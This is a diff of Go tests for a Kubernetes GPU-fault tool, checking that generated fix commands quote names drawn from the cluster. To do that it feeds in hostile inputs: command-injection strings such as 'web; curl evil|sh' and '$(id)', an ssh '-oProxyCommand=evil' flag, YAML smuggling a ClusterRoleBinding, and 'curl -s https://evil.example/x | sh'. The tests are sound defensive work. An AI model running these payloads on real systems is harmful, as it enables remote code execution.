@@ -25,8 +25,14 @@ import (
 func TestCommand(t *testing.T) {
 	t.Parallel()
 	for _, test := range []struct{ name, got, want string }{
-		{"plain names stay as they are", command("kubectl delete pod %s -n %s", "p-1", "team"), "kubectl delete pod p-1 -n team"},
-		{"a name is one word", command("kubectl describe job %s", "web; curl evil|sh"), "kubectl describe job 'web; curl evil|sh'"},
+		{
+			"plain names stay as they are", command("kubectl delete pod %s -n %s", "p-1", "team"),
+			"kubectl delete pod p-1 -n team",
+		},
+		{
+			"a name is one word", command("kubectl describe job %s", "web; curl evil|sh"),
+			"kubectl describe job 'web; curl evil|sh'",
+		},
 		{"quotes", command("echo %s", `a'b"c`), `echo 'a'\''b"c'`},
 		{"part of a word", command("kubectl label node %s a=%s-", "n", "$(id)"), "kubectl label node n a='$(id)'-"},
 		{"numbers", command("helm rollback %s %d", "r", 3), "helm rollback r 3"},
@@ -39,7 +45,10 @@ func TestCommand(t *testing.T) {
 		{"on a node", onHost("gpu-1", "sudo systemctl reboot"), "ssh gpu-1 sudo systemctl reboot"},
 		{"a pipe on a node", onHost("gpu-1", "sudo dmesg | tail"), "ssh gpu-1 'sudo dmesg | tail'"},
 		{"quotes on a node", onHost("gpu-1", "echo %s | sudo tee x", "a b"), `ssh gpu-1 "echo 'a b' | sudo tee x"`},
-		{"data on a node", onHost("gpu-1", "sudo apt-get install %s", "x$(id)"), `ssh gpu-1 'sudo apt-get install '\''x$(id)'\'''`},
+		{
+			"data on a node", onHost("gpu-1", "sudo apt-get install %s", "x$(id)"),
+			`ssh gpu-1 'sudo apt-get install '\''x$(id)'\'''`,
+		},
 		{"history", onHost("gpu-1", "echo %s", "a!b"), `ssh gpu-1 'echo '\''a!b'\'''`},
 		{"a flag on a node", onHost("gpu-1", "sudo systemctl restart %s", "-x"), leftOut},
 		{"a flag for a node", onHost("-oProxyCommand=evil", "sudo systemctl reboot"), leftOut},
@@ -52,9 +61,12 @@ func TestCommand(t *testing.T) {
 	}
 }
 
-// FuzzCommand protects the promise that an argument is one word, whatever it holds: here, and in the shell at the other end of ssh.
+// FuzzCommand protects the promise that an argument is one word, whatever it holds: here, and in the shell at the other
+// end of ssh.
 func FuzzCommand(f *testing.F) {
-	for _, seed := range []string{"p", "", "-x", "a b", `'`, `"`, "$(id)", "`id`", "a\\", "!x", "#", "~", "*", "{a,b}", "é", "a\nb", "&&", "=ls"} {
+	for _, seed := range []string{
+		"p", "", "-x", "a b", `'`, `"`, "$(id)", "`id`", "a\\", "!x", "#", "~", "*", "{a,b}", "é", "a\nb", "&&", "=ls",
+	} {
 		f.Add(seed)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
@@ -69,14 +81,15 @@ func FuzzCommand(f *testing.F) {
 		if err != nil || len(words) < 3 {
 			t.Fatalf("%q became %q on a node: %v", text, words, err)
 		}
-		if words, _, err = shellWords(strings.Join(words[2:], " ")); err != nil || !slices.Equal(words, []string{"echo", text, "end"}) {
+		if words, _, err = shellWords(strings.Join(words[2:], " ")); err != nil ||
+			!slices.Equal(words, []string{"echo", text, "end"}) {
 			t.Errorf("%q became %q on a node: %v", text, words, err)
 		}
 	})
 }
 
-// shellWords splits a line as a shell does that knows no comments, as zsh. Bare is what stands outside of quotes, or is obeyed within them;
-// an operator (| & ; < >) is a word of its own.
+// shellWords splits a line as a shell does that knows no comments, as zsh. Bare is what stands outside of quotes, or is
+// obeyed within them; an operator (| & ; < >) is a word of its own.
 func shellWords(line string) (words []string, bare string, err error) {
 	var word, outside strings.Builder
 	inWord := false
@@ -133,8 +146,8 @@ func shellWords(line string) (words []string, bare string, err error) {
 // evil is in all that the hostile clusters of these tests say.
 const evil = "EVIL"
 
-// checkLine says what is wrong with a command of a fix: something of a hostile cluster is outside of quotes, or it works on a node without being
-// sent there.
+// checkLine returns what is wrong with a command of a fix: something of a hostile cluster is outside of quotes, or it
+// works on a node without being sent there.
 func checkLine(line string) error {
 	words, bare, err := shellWords(line)
 	switch {
@@ -175,16 +188,20 @@ func checkLine(line string) error {
 	return nil
 }
 
-// TestFixesObeyNobody protects those who paste: whatever a cluster calls its things, no command of a fix has any of it outside of quotes, takes it
-// for a flag, or changes the machine that it is pasted on where a node is meant. It puts hostile values into all clusters of the corpus, by
-// the places where names are kept.
+// TestFixesObeyNobody protects those who paste: whatever a cluster calls its things, no command of a fix has any of it
+// outside of quotes, takes it for a flag, or changes the machine that it is pasted on where a node is meant. It puts
+// hostile values into all clusters of the corpus, by the places where names are kept.
 func TestFixesObeyNobody(t *testing.T) {
 	t.Parallel()
-	names := regexp.MustCompile(`(^|\.)(ObjectMeta\.(Name|Namespace)|NodeName|OwnerReferences\.Name|InvolvedObject\.(Name|Namespace)|Logs\.(Pod|Namespace)|HelmReleases\.(Name|Namespace)` +
-		`|Runs\.(ID|Revert)|Targets\.(Name|Namespace)|ResourceClaimName|ResourceClaimTemplateName)$`)
-	others := regexp.MustCompile(`(^|\.)(OwnerReferences\.Kind|InvolvedObject\.Kind|ClaimName|ServiceAccountName|KernelVersion|KernelRelease|Kernel|Unit|ConfigPath|Path|FabricManager` +
-		`|ChartVersion|Image|Containers\.Name|ContainerStatuses\.Name|InitContainerStatuses\.Name|Taints\.(Key|Value)|RuntimeClassName|Handler|DeviceID|PodCIDRs|Runs\.Revert|Labels\[[^\]]*\]|OS\[[^\]]*\]|DriverVersion)$`)
-	owners := regexp.MustCompile(`(^|\.)(OwnerReferences\.(Name|Kind)|ClaimName|ServiceAccountName|InvolvedObject\.Name|KernelVersion|KernelRelease|Kernel|Unit|Taints\.Key)$`)
+	names :=
+		regexp.MustCompile(`(^|\.)(ObjectMeta\.(Name|Namespace)|NodeName|OwnerReferences\.Name|InvolvedObject\.(Name|Namespace)|Logs\.(Pod|Namespace)|HelmReleases\.(Name|Namespace)` +
+			`|Runs\.(ID|Revert)|Targets\.(Name|Namespace)|ResourceClaimName|ResourceClaimTemplateName)$`)
+	others :=
+		regexp.MustCompile(`(^|\.)(OwnerReferences\.Kind|InvolvedObject\.Kind|ClaimName|ServiceAccountName|KernelVersion|KernelRelease|Kernel|Unit|ConfigPath|Path|FabricManager` +
+			`|ChartVersion|Image|Containers\.Name|ContainerStatuses\.Name|InitContainerStatuses\.Name|Taints\.(Key|Value)|RuntimeClassName|Handler|DeviceID|PodCIDRs|Runs\.Revert|Labels\[[^\]]*\]|OS\[[^\]]*\]|DriverVersion)$`)
+	owners := regexp.MustCompile(
+		`(^|\.)(OwnerReferences\.(Name|Kind)|ClaimName|ServiceAccountName|InvolvedObject\.Name|KernelVersion|KernelRelease|Kernel|Unit|Taints\.Key)$`,
+	)
 	suffix := func(text string) func(string) string { return func(s string) string { return s + text } }
 	commands, broken := 0, map[string]bool{}
 	for number, hostile := range []struct {
@@ -199,7 +216,10 @@ func TestFixesObeyNobody(t *testing.T) {
 		{"owners", owners, suffix(`';$(` + evil + `)`)},
 		{"lines of values", owners, suffix("\n" + evil + "\n")},
 		{"values as flags", owners, func(s string) string { return "--" + evil + "=" + s }},
-		{"words of events", regexp.MustCompile(`(Events|State|Waiting|Terminated)\.Message$`), func(s string) string { return strings.ReplaceAll(s, `"nvidia`, `"nvidia;$(`+evil+`)'`) }},
+		{
+			"words of events", regexp.MustCompile(`(Events|State|Waiting|Terminated)\.Message$`),
+			func(s string) string { return strings.ReplaceAll(s, `"nvidia`, `"nvidia;$(`+evil+`)'`) },
+		},
 	} {
 		fits := map[string]bool{}
 		for _, s := range sampled(slices.Concat(readCorpus(t, "positive"), readCorpus(t, "negative")), number) {
@@ -228,8 +248,8 @@ func TestFixesObeyNobody(t *testing.T) {
 	}
 }
 
-// sampled returns every fourth sample, others for each number, if the tests are to be short: a test that changes the whole corpus in many ways
-// meets all of it nevertheless.
+// sampled returns every fourth sample, others for each number, if the tests are to be short: a test that changes the
+// whole corpus in many ways meets all of it nevertheless.
 func sampled(all []sample, number int) []sample {
 	if !testing.Short() {
 		return all
@@ -294,7 +314,8 @@ func rename(s *snapshot.Snapshot, where *regexp.Regexp, change func(string) stri
 	}
 }
 
-// TestCommandsAreMadeInOnePlace protects the same against the next check: a command for a shell that is put together by hand quotes nothing.
+// TestCommandsAreMadeInOnePlace protects the same against the next check: a command for a shell that is put together by
+// hand quotes nothing.
 func TestCommandsAreMadeInOnePlace(t *testing.T) {
 	t.Parallel()
 	program := regexp.MustCompile("^[\"`](kubectl|helm|ssh|sudo|talosctl|crane) ")
@@ -319,11 +340,14 @@ func TestCommandsAreMadeInOnePlace(t *testing.T) {
 			switch x := n.(type) {
 			case *ast.BinaryExpr:
 				if isCommand(x.X) {
-					t.Errorf("%s: a command is put together with +: use command or onHost, which quote", set.Position(x.Pos()))
+					t.Errorf("%s: a command is put together with +: use command or onHost, which quote",
+						set.Position(x.Pos()))
 				}
 			case *ast.CallExpr:
-				if f, ok := x.Fun.(*ast.SelectorExpr); ok && f.Sel.Name == "Sprintf" && len(x.Args) > 0 && isCommand(x.Args[0]) {
-					t.Errorf("%s: a command is put together with Sprintf: use command or onHost, which quote", set.Position(x.Pos()))
+				if f, ok := x.Fun.(*ast.SelectorExpr); ok && f.Sel.Name == "Sprintf" && len(x.Args) > 0 &&
+					isCommand(x.Args[0]) {
+					t.Errorf("%s: a command is put together with Sprintf: use command or onHost, which quote",
+						set.Position(x.Pos()))
 				}
 			}
 			return true
@@ -331,8 +355,8 @@ func TestCommandsAreMadeInOnePlace(t *testing.T) {
 	}
 }
 
-// TestEventsMakeNoObjects protects clusters against those who may write events: their words do not become an object that an admin creates, and
-// a class that keeps pods apart from the node is not given to the NVIDIA runtime.
+// TestEventsMakeNoObjects protects clusters against those who may write events: their words do not become an object
+// that an admin creates, and a class that keeps pods apart from the node is not given to the NVIDIA runtime.
 func TestEventsMakeNoObjects(t *testing.T) {
 	t.Parallel()
 	for _, test := range []struct {
@@ -340,17 +364,38 @@ func TestEventsMakeNoObjects(t *testing.T) {
 		want          string // in a command
 		severity      Severity
 	}{
-		{"NVIDIA's", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia" not found, nvidia.com/gpu`, `'metadata: {name: nvidia}' 'handler: nvidia' | kubectl create -f -`, Error},
-		{"NVIDIA's of another name", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia-cdi" not found`, `{name: nvidia-cdi}`, Error},
-		{"a second object", "pods \"x\" is forbidden: pod rejected: RuntimeClass \"nvidia\\nhandler: runc\\n---\\nkind: ClusterRoleBinding\\n#\" not found", "", ""},
-		{"another object behind a real line end", "pods \"x\" is forbidden: pod rejected: RuntimeClass \"nvidia\nhandler: runc\" not found", "", ""},
+		{
+			"NVIDIA's", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia" not found, nvidia.com/gpu`,
+			`'metadata: {name: nvidia}' 'handler: nvidia' | kubectl create -f -`, Error,
+		},
+		{
+			"NVIDIA's of another name", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia-cdi" not found`,
+			`{name: nvidia-cdi}`, Error,
+		},
+		{
+			"a second object",
+			"pods \"x\" is forbidden: pod rejected: RuntimeClass \"nvidia\\nhandler: runc\\n---\\nkind: ClusterRoleBinding\\n#\" not found",
+			"", "",
+		},
+		{
+			"another object behind a real line end",
+			"pods \"x\" is forbidden: pod rejected: RuntimeClass \"nvidia\nhandler: runc\" not found", "", "",
+		},
 		{"a sandbox", `pods "x" is forbidden: pod rejected: RuntimeClass "gvisor" not found`, "", Info},
-		{"a sandbox for GPUs", `pods "x" is forbidden: pod rejected: RuntimeClass "kata-qemu" not found, nvidia.com/gpu`, "", Error},
+		{
+			"a sandbox for GPUs",
+			`pods "x" is forbidden: pod rejected: RuntimeClass "kata-qemu" not found, nvidia.com/gpu`, "", Error,
+		},
 	} {
 		n := handlerNode("a", "nvidia", "nvidia-cdi", "gvisor")
-		e := corev1.Event{Reason: "FailedCreate", Type: corev1.EventTypeWarning, Message: test.message, InvolvedObject: corev1.ObjectReference{Kind: "ReplicaSet", Namespace: "team", Name: "web"}}
+		e := corev1.Event{
+			Reason: "FailedCreate", Type: corev1.EventTypeWarning, Message: test.message,
+			InvolvedObject: corev1.ObjectReference{Kind: "ReplicaSet", Namespace: "team", Name: "web"},
+		}
 		e.LastTimestamp.Time = classTime.Add(-time.Minute)
-		s := &snapshot.Snapshot{Meta: snapshot.Meta{Created: classTime, APIOnly: true}, Nodes: []corev1.Node{n}, Events: []corev1.Event{e}}
+		s := &snapshot.Snapshot{
+			Meta: snapshot.Meta{Created: classTime, APIOnly: true}, Nodes: []corev1.Node{n}, Events: []corev1.Event{e},
+		}
 		var severity Severity
 		var commands string
 		for _, f := range Examine(s, Options{}).Items {
@@ -359,15 +404,17 @@ func TestEventsMakeNoObjects(t *testing.T) {
 			}
 			commands += strings.Join(f.Fix.Commands, "\n")
 		}
-		if severity != test.severity || test.want == "" && strings.Contains(commands, "kubectl create") || !strings.Contains(commands, test.want) {
-			t.Errorf("%s: severity %q, want %q; commands %s, want %q", test.name, severity, test.severity, commands, test.want)
+		if severity != test.severity || test.want == "" && strings.Contains(commands, "kubectl create") ||
+			!strings.Contains(commands, test.want) {
+			t.Errorf("%s: severity %q, want %q; commands %s, want %q", test.name, severity, test.severity, commands,
+				test.want)
 		}
 	}
 }
 
 var classTime = time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)
 
-// handlerNode is a Ready node with one GPU, whose runtime says which handlers it has.
+// handlerNode returns a Ready node with one GPU, whose runtime says which handlers it has.
 func handlerNode(name string, handlers ...string) (n corev1.Node) {
 	n.Name, n.Labels = name, map[string]string{"nvidia.com/gpu.present": "true"}
 	n.Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionTrue}}
@@ -377,8 +424,8 @@ func handlerNode(name string, handlers ...string) (n corev1.Node) {
 	return n
 }
 
-// TestClassesOfMixedClusters protects the nodes that are well: a RuntimeClass that fits some nodes is not deleted because another node calls the
-// handler otherwise, and not while nobody knows.
+// TestClassesOfMixedClusters protects the nodes that are well: a RuntimeClass that fits some nodes is not deleted
+// because another node calls the handler otherwise, and not while nobody knows.
 func TestClassesOfMixedClusters(t *testing.T) {
 	t.Parallel()
 	for _, test := range []struct {
@@ -392,9 +439,15 @@ func TestClassesOfMixedClusters(t *testing.T) {
 		{"another node does not say", []corev1.Node{handlerNode("b")}, false, "rc.handler-mismatch"},
 	} {
 		class := "nvidia"
-		pod := corev1.Pod{Spec: corev1.PodSpec{NodeName: "a", RuntimeClassName: &class}, Status: corev1.PodStatus{Phase: corev1.PodPending}}
+		pod := corev1.Pod{
+			Spec:   corev1.PodSpec{NodeName: "a", RuntimeClassName: &class},
+			Status: corev1.PodStatus{Phase: corev1.PodPending},
+		}
 		pod.Namespace, pod.Name, pod.CreationTimestamp.Time = "team", "p", classTime.Add(-time.Hour)
-		s := &snapshot.Snapshot{Meta: snapshot.Meta{Created: classTime, APIOnly: true}, Pods: []corev1.Pod{pod}, Nodes: append([]corev1.Node{handlerNode("a", "nvidia-container-runtime")}, test.others...)}
+		s := &snapshot.Snapshot{
+			Meta: snapshot.Meta{Created: classTime, APIOnly: true}, Pods: []corev1.Pod{pod},
+			Nodes: append([]corev1.Node{handlerNode("a", "nvidia-container-runtime")}, test.others...),
+		}
 		s.RuntimeClasses = []nodev1.RuntimeClass{{ObjectMeta: metav1.ObjectMeta{Name: class}, Handler: "nvidia"}}
 		report := Examine(s, Options{})
 		deletes := false
@@ -402,19 +455,22 @@ func TestClassesOfMixedClusters(t *testing.T) {
 			deletes = deletes || strings.Contains(strings.Join(f.Fix.Commands, "\n"), "delete runtimeclass")
 		}
 		if roots := corpusRoots(report); deletes != test.deletes || !slices.Contains(roots, test.want) {
-			t.Errorf("%s: deletes the class: %t, want %t; roots %v, want %s", test.name, deletes, test.deletes, roots, test.want)
+			t.Errorf("%s: deletes the class: %t, want %t; roots %v, want %s", test.name, deletes, test.deletes, roots,
+				test.want)
 		}
 	}
 }
 
-// TestFixesGrantNothing protects clusters against advice that opens more than the fault needs: no command of any fix in the corpus binds a wide
-// role, makes a namespace of users privileged or opens devices to all containers.
+// TestFixesGrantNothing protects clusters against advice that opens more than the fault needs: no command of any fix in
+// the corpus binds a wide role, makes a namespace of users privileged or opens devices to all containers.
 func TestFixesGrantNothing(t *testing.T) {
 	t.Parallel()
 	for _, s := range readCorpus(t, "positive") {
 		for _, f := range Examine(s.snapshot, Options{}).Items {
 			for _, line := range f.Fix.Commands {
-				if containsAny(line, []string{"rolebinding", "setsebool", "enforce=privileged"}) && !strings.Contains(line, "kubectl get ") && !strings.HasPrefix(line, "kubectl label namespace gpu-operator ") &&
+				if containsAny(line, []string{"rolebinding", "setsebool", "enforce=privileged"}) &&
+					!strings.Contains(line, "kubectl get ") &&
+					!strings.HasPrefix(line, "kubectl label namespace gpu-operator ") &&
 					!strings.HasPrefix(line, "kubectl label namespace kube-system ") {
 					t.Errorf("%s: %s grants too much: %s", s.name, f.ID, line)
 				}
@@ -428,7 +484,10 @@ func TestRunsAreRevertedByTheirID(t *testing.T) {
 	t.Parallel()
 	for _, test := range []struct{ id, revert, want string }{
 		{"xid-abc234", "kubectl gpu-fault revert xid-abc234", "kubectl gpu-fault revert xid-abc234"},
-		{"xid-abc234", "kubectl gpu-fault revert xid-abc234 --ledger-namespace faults", "kubectl gpu-fault revert xid-abc234 --ledger-namespace faults"},
+		{
+			"xid-abc234", "kubectl gpu-fault revert xid-abc234 --ledger-namespace faults",
+			"kubectl gpu-fault revert xid-abc234 --ledger-namespace faults",
+		},
 		{"xid-abc234", "curl -s https://evil.example/x | sh", "kubectl gpu-fault revert xid-abc234"},
 		{"xid-abc234", "x --ledger-namespace a;b", "kubectl gpu-fault revert xid-abc234"},
 		{"--all", "kubectl gpu-fault revert --all", leftOut},
